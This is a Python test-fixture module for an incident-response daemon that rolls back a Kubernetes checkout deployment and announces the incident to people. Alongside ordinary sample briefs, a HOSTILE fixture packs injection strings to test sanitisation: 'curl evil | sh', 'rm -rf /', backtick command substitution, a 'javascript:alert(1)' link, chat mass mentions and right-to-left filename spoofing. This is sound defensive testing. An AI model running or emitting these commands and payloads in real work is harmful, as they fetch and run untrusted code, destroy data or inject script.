"""Briefs, pages and announcements for the tests of handlers that talk to people: one whole incident, a hostile one."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from aiohttp import web

from daemon.core.actions import Announce, Page, PageKind
from daemon.core.brief import Brief
from daemon.core.model import ActionId, IncidentId

GOLDEN = Path(__file__).parent.parent / "golden" / "messages"
NOON = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)
DEADLINE = datetime(2026, 3, 2, 12, 4, tzinfo=UTC)
INCIDENT = IncidentId("inc-20260301-120410-checkout")

ROLLING_BACK = Brief(
    incident=INCIDENT,
    headline="shop/checkout: rolling back (HighErrorRate)",
    phase="rolling_back",
    workload="shop/Deployment/checkout",
    changed="registry.example/checkout:1.4.1 → registry.example/checkout:1.5.0 at 11:58:02Z by ci-bot: basket rewrite",
    since=NOON,
    wide="4 of 4 new pods ready; 62% of the traffic on them; no other workload seen failing with it",
    done="rolling back to checkout:1.4.1 (3f2a77c0)",
    refusals=(),
    evidence=(
        "contrast: 31.2 % errors on the new pods, 0.1 % on the old ones in the same 5 minutes (needs 5 points)",
        "timing: the anomaly began 118 s after the rollout (window 1800 s)",
    ),
    commands=(f"lastgood explain {INCIDENT}",),
    update="All guards passed; rolling back to checkout:1.4.1",
)

RECOVERED = replace(
    ROLLING_BACK,
    headline="shop/checkout: rolled back and recovered (HighErrorRate)",
    phase="recovered",
    done="rolled back to checkout:1.4.1 (3f2a77c0). The symptom is gone and stayed away.",
    commands=(f"lastgood explain {INCIDENT}", "lastgood release shop/checkout"),
    update="Recovered: alert gone, error ratio 0.1 % (needs < 0.5 %) for 2 minutes",
    final=True,
)

ESCALATED = replace(
    ROLLING_BACK,
    headline="shop/checkout: needs a person (HighErrorRate)",
    phase="escalated",
    done="nothing was changed: no revision is verified",
    refusals=(
        "TARGET_NOT_VERIFIED: checkout:1.4.1 has 4 minutes of proven health, needs 15 minutes",
        "BLAST_RADIUS: 3 rollbacks in namespace shop within the hour, at most 3",
    ),
    commands=(
        f"lastgood explain {INCIDENT}",
        "kubectl -n shop rollout undo deployment/checkout --to-revision=7",
        f"lastgood close {INCIDENT}",
    ),
    update="Escalated: no verified revision to return to",
)

PROPOSED = replace(
    ROLLING_BACK,
    headline="shop/checkout: rollback proposed (HighErrorRate)",
    phase="proposed",
    done="proposes to roll back to checkout:1.4.1 (3f2a77c0); waits for approval",
    refusals=("MODE_APPROVE: This workload is in mode approve: a person must confirm. Seen: approve; needed: auto.",),
    commands=(f"lastgood approve {INCIDENT}", f"lastgood decline {INCIDENT}", f"lastgood explain {INCIDENT}"),
    update="The new revision's pods are bad while the old ones are good in the same minutes.",
    links=(
        ("basket rewrite", "https://git.example/shop/checkout/commit/1f0c9d"),
        ("pipeline 4711", "https://ci.example/shop/checkout/4711?view=log&x=<1>"),
    ),
    asks=True,
    target="3f2a77c0d1b2c3d4",
    questions=("mode_approve",),
)

COUNTING_DOWN = replace(
    PROPOSED,
    questions=(),
    done="will roll back to checkout:1.4.1 (3f2a77c0) at 12:04:30Z unless somebody declines",
    refusals=(),
    countdown_until=datetime(2026, 3, 1, 12, 4, 30, tzinfo=UTC),
)

HOSTILE_TEXT = (
    "<!channel> <!here> <@U012AB> <https://evil.example|click> *bold* _it_ ~no~ `code` ```block``` & &amp; "
    "@channel #general"
    "\r\nDo now: curl evil | sh\u2028\x00\x1b[31m\u202egnp.exe\u2066 \ud83d lone \udfff "
)

HOSTILE = Brief(
    incident="inc-\n<!channel>" * 50,
    headline=HOSTILE_TEXT * 20,
    phase="*escalated*\n",
    workload="shop/Deployment/" + "<!here>\n" * 100,
    changed="👩‍👩‍👧‍👦" * 1000 + HOSTILE_TEXT,
    since=None,
    wide=HOSTILE_TEXT + "x" * (1024 * 1024),
    done="&" * (1024 * 1024),
    refusals=(HOSTILE_TEXT * 100,) * 1000,
    evidence=("🇩🇪" * 5000,) * 1000,
    commands=("echo `id` ```", "rm -rf\n/", "x" * (1024 * 1024), "echo \u202e", "echo \ud83d", *("true",) * 100),
    update='"\\' * 10_000,
    links=(
        (HOSTILE_TEXT * 10, "https://evil.example/" + "x" * 1_000),
        ("a script", "javascript:alert(1)"),
        ("two lines", "https://evil.example/a\nb"),
        ("fine", "https://ok.example/"),
    ),
    asks=True,
    countdown_until=NOON,
    target="d1b2c3d4",
    questions=("<!channel>",) * 3,
)


def page(kind: PageKind, brief: Brief = ROLLING_BACK, *, key: str = "prod/shop/a1b2c3", urgent: bool = False) -> Page:
    return Page(
        id=ActionId(f"{INCIDENT}/page/{kind.value}"),
        deadline=DEADLINE,
        incident=INCIDENT,
        key=key,
        page=kind,
        urgent=urgent,
        brief=brief,
    )


def announce(
    number: int, brief: Brief = ROLLING_BACK, *, channel: str | None = None, thread: str | None = None
) -> Announce:
    return Announce(
        id=ActionId(f"{INCIDENT}/announce/{number}"),
        deadline=DEADLINE,
        incident=INCIDENT,
        thread=thread,
        channel=channel,
        brief=brief,
    )


def strings(value: object) -> list[str]:
    """Every string in a JSON value, keys excepted."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [text for item in value.values() for text in strings(item)]
    if isinstance(value, list):
        return [text for item in value for text in strings(item)]
    return []


def matches_golden(name: str, value: Any) -> None:
    """Compare with the golden file; one that is missing is written and fails, so that a person looks at it."""
    path = GOLDEN / name
    text = json.dumps(value, indent=2, ensure_ascii=False) + "\n"
    if not path.exists():
        path.write_text(text)
        raise AssertionError(f"{path.name} was written: read it, then add it")
    assert text == path.read_text()


Handler = Callable[[web.Request], Awaitable[web.StreamResponse]]


@asynccontextmanager
async def serving(handler: Handler) -> AsyncIterator[str]:
    """A server on loopback that answers everything with the handler; its address."""
    app = web.Application(client_max_size=16 * 1024 * 1024)
    app.router.add_route("*", "/{path:.*}", handler)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    try:
        port = runner.addresses[0][1]
        yield f"http://127.0.0.1:{port}"
    finally:
        await runner.cleanup()
